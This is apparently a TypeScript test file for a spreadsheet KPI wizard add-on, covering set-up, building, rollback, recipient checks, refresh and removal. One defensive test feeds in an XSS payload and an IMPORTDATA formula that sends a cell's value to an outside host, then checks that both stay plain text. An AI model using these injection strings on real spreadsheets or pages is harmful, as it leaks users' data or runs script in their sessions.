import { type Host, type HostTab, openHost } from '../../../local/host/host';
import { isFormula } from '../../../local/workbook/cell';
import type { Explanation } from '../../../src/explain/explanation';
import type { HomeView } from '../../../src/home/home-view';
import type { Opening } from '../../../src/home/opening';
import type { Envelope } from '../../../src/sheet/envelope';
import { say } from '../../../src/texts/say';
import type { Checks } from '../../../src/wizard/checks';
import type { Setup } from '../../../src/wizard/setup/setup';
import type { SetupView } from '../../../src/wizard/setup-view';
import { deals as smallDeals, leads as smallLeads } from '../../wizard/small-company';

const tabs = [smallDeals, smallLeads] as HostTab[];
const owner = { email: 'owner@example.com', locale: 'en' };
const open = (more: Partial<Parameters<typeof openHost>[0]> = {}): Host =>
  openHost({ dist: 'dist', tabs, user: owner, ...more });

/** Calls the server as the page does; an answer that Google could not send fails the test. */
function ask<Data>(host: Host, name: string, request?: unknown): Data {
  const answer = host.call(name, request === undefined ? [] : [request]) as Envelope<Data> | null;
  expect(host.state.complaints).toEqual([]);
  if (answer === null) throw new Error(`${name}: no answer`);
  if (!answer.ok) throw new Error(answer.error);
  return answer.data;
}

const setupOf = (host: Host): SetupView => ask<Opening>(host, 'openSidebar').setup as SetupView;

/** Reads each tab cell by cell as text, to see whether anything has changed. */
function shown(host: Host, name: string): unknown[][] {
  const sheet = host.workbook.sheetByName(name);
  if (!sheet) throw new Error(`no tab ${name}`);
  const { rows, columns } = host.workbook.extent(sheet);
  return Array.from({ length: rows }, (_, row) =>
    Array.from({ length: columns }, (_column, column) => host.workbook.read(sheet, row, column).value ?? ''),
  );
}

const everything = (host: Host): unknown =>
  Object.fromEntries(host.workbook.sheets.map(({ name }) => [name, shown(host, name)]));

function kpiRow(host: Host, title: string): Record<string, unknown> {
  const rows = shown(host, 'KPIs');
  const header = rows.find((row) => row[0] === 'KPI') as string[];
  const row = rows.find((cells) => cells[0] === title) ?? [];
  return Object.fromEntries(header.map((text, index) => [text, row[index]]));
}

/** A set-up with targets, owners and recipients typed. */
function filledIn(setup: Setup, recipients = 'team@example.com'): Setup {
  return {
    ...setup,
    step: 'review',
    chosen: true,
    objective: 'grow_revenue',
    picked: setup.picked.map((kpi) => ({
      ...kpi,
      goal: kpi.id === 'revenue' ? { ...kpi.goal, target: '15,000', floor: '10,000' } : kpi.goal,
      owner: 'Ann',
      report: { ...kpi.report, name: 'Team', recipients },
    })),
  };
}

describe('opening', () => {
  test('shows the steps where nothing was built, and reads each tab once', () => {
    const host = open();
    const { home, setup } = ask<Opening>(host, 'openSidebar');
    expect(home).toBeNull();
    expect(setup?.tabs.map(({ table }) => table)).toEqual(['deals', 'leads']);
    expect(host.counts.reads['Range.getValues']).toBe(tabs.length);
    expect(host.counts.writes).toEqual({});
    expect([...host.state.properties.values()].every((kept) => kept.size === 0)).toBe(true);
  });

  test('an empty spreadsheet says so and breaks nothing', () => {
    const view = setupOf(open({ tabs: [] }));
    expect(view.tabs.every(({ table }) => table === null)).toBe(true);
    expect(view.setup.picked).toEqual([]);
  });

  test('speaks the language of the person, whatever the spreadsheet’s', () => {
    const dutch = setupOf(open({ user: { email: 'o@example.com', locale: 'nl' }, locale: 'en_US' }));
    expect(dutch.choices.find(({ id }) => id === 'win_rate')?.title).toBe('Winpercentage');
    expect(setupOf(open({ locale: 'nl_NL' })).choices.find(({ id }) => id === 'win_rate')?.title).toBe('Win rate');
  });
});

describe('half done', () => {
  test('a set-up is found again where it was left, wrong input included', () => {
    const host = open();
    const { setup } = setupOf(host);
    const left: Setup = { ...filledIn(setup, 'team@'), step: 'reports' };
    ask(host, 'keepSetup', { setup: left });
    expect(setupOf(host).setup).toEqual(left);
  });

  test('it is as large as it needs to be: no value beyond 9 kB', () => {
    const host = open();
    const { setup } = setupOf(host);
    const answers = Array.from({ length: 400 }, (_, index) => ({
      tab: 'Deals',
      column: 'Stage',
      value: `étape n° ${index}`,
      answer: 'open',
    }));
    ask(host, 'keepSetup', { setup: { ...setup, answers } });
    expect(setupOf(host).setup.answers).toEqual(answers);
    ask(host, 'keepSetup', { setup });
    const kept = [...(host.state.properties.get('document local-spreadsheet') ?? new Map()).keys()];
    expect(kept.filter((key) => key.startsWith('setup'))).toEqual(['setup', 'setup.0']);
  });

  test('what is kept and cannot be read is as if nothing were', () => {
    const host = open();
    host.state.properties.set(
      'document local-spreadsheet',
      new Map([
        ['setup', '1'],
        ['setup.0', '{"step":"pick"}'],
      ]),
    );
    expect(setupOf(host).setup.step).toBe('objective');
  });

  test('a tab renamed since then keeps its answers, and the person is told', () => {
    const cells = [...smallDeals.cells, ['Verbal', 'Verbal', '1', '2017-12-01', '2017-12-02', 'Ann']];
    const host = open({ tabs: [{ name: 'Deals', cells }, tabs[1]] as HostTab[] });
    const { setup } = setupOf(host);
    const answers = [{ tab: 'Deals', column: 'Stage', value: 'Verbal', answer: 'open' }];
    ask(host, 'keepSetup', { setup: { ...setup, answers } });
    const sheet = host.workbook.sheetByName('Deals');
    if (sheet) sheet.name = 'Deals 2018';
    const view = setupOf(host);
    expect(view.setup.answers).toEqual([{ ...answers[0], tab: 'Deals 2018' }]);
    expect(view.tabs[0].questions).toEqual([]);
    expect(view.changes).toEqual([
      say({ text: 'wizard_tab_renamed', values: { before: 'Deals', now: 'Deals 2018' } }, 'en'),
    ]);
  });
});

describe('checking what was typed', () => {
  test('reads no tab', () => {
    const host = open();
    const view = setupOf(host);
    host.resetCounts();
    const checks = ask<Checks>(host, 'checkTyped', { setup: filledIn(view.setup), context: view.context });
    expect(checks.goals.revenue.understood).toBe('15,000');
    expect(host.counts.reads).toEqual({});
  });

  test('what is no set-up comes back as a sentence', () => {
    expect(() => ask(open(), 'checkTyped', { setup: { step: 'x' } })).toThrow('The plan');
  });
});

describe('building', () => {
  test('makes the very sheet that the same plan makes without the wizard, and ends on it', () => {
    const host = open();
    const home = ask<HomeView>(host, 'buildSetup', {
      setup: { ...filledIn(setupOf(host).setup), automatic: false },
    });
    expect(host.workbook.activeSheet?.name).toBe('KPIs');
    expect(kpiRow(host, 'Revenue')).toMatchObject({ Actual: 12_000, Target: 15_000, Owner: 'Ann', Floor: 10_000 });
    expect(home.kpis[0]).toMatchObject({ id: 'revenue', value: '12,000', target: '15,000', owner: 'Ann' });
    const other = open();
    const span = { from: '2017-10-01', to: '2017-12-31' };
    const plan = {
      language: 'en',
      objective: 'Grow revenue',
      period: 'quarter',
      kpis: ['revenue', 'win_rate', 'new_leads', 'sales_cycle', 'average_purchase'].map((id) => ({
        id,
        owner: 'Ann',
        report: { name: 'Team', cadence: 'weekly', recipients: [{ address: 'team@example.com' }] },
        ...(id === 'revenue' ? { targets: [{ ...span, target: 15_000, floor: 10_000 }] } : {}),
      })),
    };
    ask(other, 'buildKpiSheet', { plan });
    expect(everything(host)).toEqual(everything(other));
  });

  test('reads each raw tab once, and is no longer half done', () => {
    const host = open();
    const setup = filledIn(setupOf(host).setup);
    ask(host, 'keepSetup', { setup });
    host.resetCounts();
    ask(host, 'buildSetup', { setup });
    // The schedule looks at the KPI sheet and the plan tab, as they were just made.
    expect(host.counts.reads['Range.getValues']).toBe(tabs.length + 2);
    expect(ask<Opening>(host, 'openSidebar').home?.halfDone).toBe(false);
    expect(ask<{ done: number }>(host, 'buildProgress').done).toBe(2);
  });

  test('an address outside the owner’s domain is refused until a person has confirmed it', () => {
    const host = open();
    const setup = filledIn(setupOf(host).setup, 'boss@other.org');
    expect(() => ask(host, 'buildSetup', { setup })).toThrow('boss@other.org is outside your domain');
    expect(host.workbook.sheets).toHaveLength(tabs.length);
    ask(host, 'buildSetup', { setup: { ...setup, confirmed: ['boss@other.org'] } });
    ask(host, 'refreshNow');
    expect(ask<SetupView>(host, 'readSetup', {}).setup.confirmed).toEqual(['boss@other.org']);
    expect(Object.values(kpiRow(host, 'Revenue'))).toContain('boss@other.org');
  });

  test('a wrong number is refused with its place, and nothing is written', () => {
    const host = open();
    const { setup } = setupOf(host);
    const wrong = { ...setup, picked: setup.picked.map((kpi) => ({ ...kpi, goal: { ...kpi.goal, target: 'a lot' } })) };
    expect(() => ask(host, 'buildSetup', { setup: wrong })).toThrow('Revenue: This is no number. Type it as');
    expect(host.workbook.sheets).toHaveLength(tabs.length);
  });

  test('while somebody else builds, it waits no longer than a moment and says so', () => {
    const host = open();
    const { setup } = setupOf(host);
    host.state.locksElsewhere.add('document');
    expect(() => ask(host, 'buildSetup', { setup })).toThrow('Someone else is refreshing');
  });

  test.each([3, 40, 400])('an error after %d cells leaves everything as it was, and the choices kept', (cells) => {
    const host = open();
    const setup = filledIn(setupOf(host).setup);
    const before = everything(host);
    failAfter(host, cells);
    expect(() => ask(host, 'buildSetup', { setup })).toThrow(
      /^Nothing was changed, and your choices are kept\. .*Service error/,
    );
    expect(everything(host)).toEqual(before);
    expect(setupOf(host).setup.picked[0].owner).toBe('Ann');
  });

  test.each([5, 60, 150])(
    'an error after %d cells of building again leaves sheet and formulas as they were',
    (cells) => {
      const host = open();
      ask(host, 'buildSetup', { setup: filledIn(setupOf(host).setup) });
      const before = everything(host);
      const formulas = formulasOf(host);
      const { setup } = ask<SetupView>(host, 'readSetup', {});
      const [first, ...rest] = setup.picked;
      const changed = { ...setup, picked: [...rest, { ...first, owner: 'Bob' }].slice(1), parked: [rest[0]] };
      failAfter(host, cells);
      expect(() => ask(host, 'buildSetup', { setup: changed })).toThrow('Nothing was changed');
      expect(everything(host)).toEqual(before);
      expect(formulasOf(host)).toEqual(formulas);
    },
  );
});

const formulasOf = (host: Host): string[] => {
  const found: string[] = [];
  host.workbook.sheetByName('KPIs')?.contents.each((content) => {
    if (isFormula(content)) found.push(content.formula);
  });
  return found.sort();
};

/** The service fails once, after so many cells have been written. */
function failAfter(host: Host, cells: number): void {
  const { workbook } = host;
  const put = workbook.put.bind(workbook);
  let written = 0;
  workbook.put = (...place: Parameters<typeof put>) => {
    if (written++ === cells) throw new Error('Service error: Spreadsheets');
    return put(...place);
  };
}

describe('afterwards', () => {
  function built(more: Partial<Parameters<typeof openHost>[0]> = {}): Host {
    const host = open(more);
    ask(host, 'buildSetup', { setup: filledIn(setupOf(host).setup) });
    return host;
  }

  test('the sidebar opens on the KPIs with their status, and says when and by whom they were refreshed', () => {
    const host = built({ clock: { now: () => Date.UTC(2018, 0, 3, 9, 5) } });
    const { home, setup } = ask<Opening>(host, 'openSidebar');
    expect(setup).toBeNull();
    expect(home).toMatchObject({
      refreshed: say(
        { text: 'wizard_refreshed_by', values: { moment: 'Wed 3 Jan 2018 09:05', by: 'owner@example.com' } },
        'en',
      ),
      copy: '',
    });
    expect(home?.kpis.map(({ id, status }) => [id, status]).slice(0, 2)).toEqual([
      ['revenue', 'off_track'],
      ['win_rate', 'no_target'],
    ]);
  });

  test('a step is edited with what people typed on the sheet meanwhile, and what is chosen then comes first', () => {
    const host = built();
    const sheet = host.workbook.sheetByName('KPIs');
    if (!sheet) throw new Error('no KPI sheet');
    const rows = shown(host, 'KPIs');
    const column = (rows.find((row) => row[0] === 'KPI') as unknown[]).indexOf('Target');
    host.workbook.put(
      sheet,
      rows.findIndex((row) => row[0] === 'Revenue'),
      column,
      11_000,
    );
    const { setup } = ask<SetupView>(host, 'readSetup', {});
    expect(setup.picked[0].goal.target).toBe('11,000');
    const changed = {
      ...setup,
      picked: setup.picked.map((kpi, index) =>
        index === 0 ? { ...kpi, goal: { ...kpi.goal, target: '12,500' } } : kpi,
      ),
    };
    ask(host, 'buildSetup', { setup: changed });
    expect(kpiRow(host, 'Revenue').Target).toBe(12_500);
    expect(ask<SetupView>(host, 'readSetup', {}).setup.picked[0].goal.target).toBe('12,500');
  });

  test('a KPI taken off leaves the sheet, and comes back with its goal', () => {
    const host = built();
    const { setup } = ask<SetupView>(host, 'readSetup', {});
    ask(host, 'buildSetup', { setup: { ...setup, picked: setup.picked.slice(1), parked: [setup.picked[0]] } });
    expect(kpiRow(host, 'Revenue').Target).toBeUndefined();
    const again = ask<SetupView>(host, 'readSetup', {}).setup;
    expect(again.parked.map(({ id }) => id)).toEqual(['revenue']);
    ask(host, 'buildSetup', { setup: { ...again, picked: [...again.picked, ...again.parked], parked: [] } });
    expect(kpiRow(host, 'Revenue')).toMatchObject({ Target: 15_000, Owner: 'Ann' });
  });

  test('refreshing brings new rows in', () => {
    const host = built();
    const sheet = host.workbook.sheetByName('Deals');
    if (!sheet) throw new Error('no deals');
    ['New one', 'Closed Won', '5000', '2017-12-01', '2017-12-31', 'Ann'].forEach((cell, column) => {
      host.workbook.put(sheet, smallDeals.cells.length, column, cell);
    });
    const home = ask<HomeView>(host, 'refreshNow');
    expect(home.kpis[0].value).toBe('17,000');
    expect(kpiRow(host, 'Revenue').Actual).toBe(17_000);
  });

  test('the number of the selected row is explained, and its rows can be selected', () => {
    const host = built();
    const sheet = host.workbook.sheetByName('KPIs');
    if (!sheet) throw new Error('no KPI sheet');
    const row = shown(host, 'KPIs').findIndex((cells) => cells[0] === 'Win rate') + 1;
    host.workbook.activate(sheet, [{ row, column: 2, rows: 1, columns: 1 }]);
    const explanation = ask<Explanation>(host, 'explainSelection');
    expect(explanation).toMatchObject({ title: 'Win rate', value: '40%', division: '12 ÷ 30' });
    const rows = shown(host, 'KPIs');
    const column = (rows.find((cells) => cells[0] === 'KPI') as unknown[]).indexOf('Previous') + 1;
    host.workbook.activate(sheet, [{ row, column, rows: 1, columns: 1 }]);
    expect(ask<Explanation>(host, 'explainSelection').period).toBe('1 Jul 2017 – 30 Sep 2017');
    const [{ tab, parts }] = explanation.tabs;
    ask(host, 'selectCells', { tab, ranges: parts[0].ranges });
    const { sheet: active, areas } = host.workbook.selectedAreas();
    expect([active.name, areas.map((area) => [area.row, area.rows])]).toEqual([
      'Deals',
      [
        [92, 4],
        [102, 4],
        [112, 4],
      ],
    ]);
    expect(ask<Explanation>(host, 'explainSelection').formula).toContain('A cell of the column');
  });

  test.each([
    [{ tab: 'Nowhere', ranges: ['A1'] }, say({ text: 'wizard_no_tab', values: { tab: 'Nowhere' } }, 'en')],
    [{ tab: 'Deals', ranges: ['A1;B2'] }, say({ text: 'wizard_no_range', values: { range: 'A1;B2' } }, 'en')],
    [{ tab: 'Deals', ranges: [] }, 'is no place on a tab.'],
    [null, 'is not there.'],
  ])('selecting %j is refused with a sentence', (request, says) => {
    expect(() => ask(built(), 'selectCells', request)).toThrow(says);
  });

  test('a copy keeps the plan, says that it is a copy, and is one until a person says otherwise', () => {
    const host = built();
    const kept = host.state.properties.get('document local-spreadsheet') as Map<string, string>;
    const moved = [...kept].map(([key, value]): [string, string] => [
      key,
      value.replace('local-spreadsheet', 'another'),
    ]);
    host.state.properties.set('document local-spreadsheet', new Map(moved));
    const home = ask<Opening>(host, 'openSidebar').home as HomeView;
    expect(home.copy).toContain('This is a copy');
    expect(home.kpis[0].target).toBe('15,000');
    expect(ask<HomeView>(host, 'refreshNow').copy).toContain('This is a copy');
    ask(host, 'adoptPlan');
    expect(ask<Opening>(host, 'openSidebar').home?.copy).toBe('');
  });

  test('stopping forgets everything and leaves the tabs as they are; nothing is adopted behind one’s back', () => {
    const host = built();
    const before = everything(host) as Record<string, unknown[][]>;
    ask(host, 'keepSetup', { setup: ask<SetupView>(host, 'readSetup', {}).setup });
    ask(host, 'stopAndRemove');
    expect(host.state.properties.get('document local-spreadsheet')?.size).toBe(0);
    expect(host.state.triggers).toEqual([]);
    const after = everything(host) as Record<string, unknown[][]>;
    // Only the heartbeat above the KPIs says something else now.
    expect(after.KPIs.slice(10)).toEqual(before.KPIs.slice(10));
    expect(after.KPIs.flat()).toContain('Schedule: stopped');
    expect({ ...after, KPIs: [] }).toEqual({ ...before, KPIs: [] });
    expect(ask<Opening>(host, 'openSidebar').home?.copy).toContain('it is a copy, or it was stopped');
    ask<HomeView>(host, 'refreshNow');
    expect(host.state.properties.get('document local-spreadsheet')?.size).toBe(0);
  });

  test('stopping takes along the tabs that we made, where that is asked, and none of the others', () => {
    const host = built();
    const before = everything(host) as Record<string, unknown[][]>;
    ask(host, 'stopAndRemove', { tabs: true });
    const after = everything(host) as Record<string, unknown[][]>;
    expect(Object.keys(after)).toEqual(tabs.map(({ name }) => name));
    for (const name of Object.keys(after)) expect(after[name]).toEqual(before[name]);
    expect(host.state.properties.get('document local-spreadsheet')?.size).toBe(0);
    expect(host.state.triggers).toEqual([]);
    expect(ask<Opening>(host, 'openSidebar').setup).not.toBeNull();
  });
});

test('hostile names, headers and cells stay text, from the tabs to the KPI sheet', () => {
  const evil = '<img src=x onerror=alert(1)>';
  const formula = '=IMPORTDATA("https://example.com/"&B2)';
  const cells = [
    ['Deal', 'Stage', 'Amount', 'Created', 'Close date', 'Owner', evil],
    ...smallDeals.cells.slice(1).map((row, index) => [...row.slice(0, 5), index % 2 ? evil : formula, 'x']),
    ['Odd', evil, '1', '2017-12-01', '2017-12-03', evil, 'x'],
  ];
  const host = open({ tabs: [{ name: evil, cells }] as HostTab[] });
  const view = setupOf(host);
  expect(view.tabs[0].questions[0]).toMatchObject({ tab: evil, value: evil });
  expect(view.people.map(({ name }) => name)).toEqual(expect.arrayContaining([evil, formula]));
  const setup = {
    ...view.setup,
    objective: formula,
    picked: view.setup.picked.map((kpi) => ({ ...kpi, owner: formula })),
  };
  ask(host, 'buildSetup', { setup });
  expect(kpiRow(host, 'Revenue').Owner).toBe(formula);
  expect(formulasOf(host).filter((text) => text.includes('IMPORTDATA'))).toEqual([]);
  expect(ask<Opening>(host, 'openSidebar').home?.kpis[0].owner).toBe(formula);
});

test.each([
  'openSidebar',
  'readSetup',
  'keepSetup',
  'checkTyped',
  'buildSetup',
  'buildProgress',
  'refreshNow',
  'explainSelection',
  'selectCells',
  'adoptPlan',
  'stopAndRemove',
])('%s typed into a cell fails with a sentence and changes nothing', (name) => {
  const host = open();
  expect(JSON.stringify(host.evaluate(`=${name}()`))).toContain('works from the menu');
  expect(host.workbook.sheets).toHaveLength(tabs.length);
  expect([...host.state.properties.values()].every((kept) => kept.size === 0)).toBe(true);
});

test('what KPIs are to stand side by side by is chosen there, stands in the plan, and is explained', () => {
  const host = open();
  const { setup, breakdown } = setupOf(host);
  expect(breakdown.choices.map(({ by }) => by)).toContain('close_weekday');
  ask(host, 'buildSetup', { setup: { ...filledIn(setup), breakdown: 'close_weekday' } });
  const rows = shown(host, 'KPIs per weekday of closing');
  expect([rows[2][0], rows[4][0]]).toEqual(['Weekday of closing', 'Monday']);
  expect(shown(host, 'KPI plan').find(([label]) => label === 'Side by side per')).toContain('Weekday of closing');
  const sheet = host.workbook.sheetByName('KPIs per weekday of closing');
  if (!sheet) throw new Error('no such tab');
  host.workbook.activate(sheet, [{ row: 5, column: 2, rows: 1, columns: 1 }]);
  expect(ask<Explanation>(host, 'explainSelection').title).toBe(`${rows[2][1]} · Monday`);
});
